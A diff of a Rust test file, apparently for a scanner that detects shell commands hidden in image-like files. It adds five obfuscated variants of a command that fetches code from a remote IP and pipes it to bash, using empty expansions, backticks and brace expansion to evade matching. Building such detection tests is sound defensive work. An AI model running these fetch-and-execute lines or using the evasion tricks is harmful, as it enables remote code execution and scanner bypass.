@@ -217,7 +217,7 @@ fn a_script_that_begins_like_an_image_is_read() {
     }
 }
 
-/// A shell removes NUL bytes, quotes and continued lines.
+/// A shell removes NUL bytes, quotes, continued lines and empty expansions.
 #[test]
 fn a_split_command_in_a_file_that_begins_like_an_image_is_found() {
     for name in ["assets/a.png", "assets/a"] {
@@ -227,6 +227,11 @@ fn a_split_command_in_a_file_that_begins_like_an_image_is_found() {
             b"cu\0rl http://45.9.148.20/a | ba\0sh\n",
             b"\xff||c''url http://45.9.148.20/a/\xff | b''ash\n",
             b"a=cu\n\xff\xff\xff\n$a''rl http://45.9.148.20/a|b''ash\n",
+            b"curl\thttp://45.9.148.20/a\t|\tbash\n",
+            b"cu$@rl http://45.9.148.20/a|ba$@sh\n",
+            b"cu$*rl http://45.9.148.20/a |ba$*sh\n",
+            b"cu``rl http://45.9.148.20/a |ba``sh\n",
+            b"{curl,http://45.9.148.20/a}|{bash,}\n",
         ] {
             let dir = tempfile::tempdir().expect("a folder");
             let root = dir.path().join("demo");
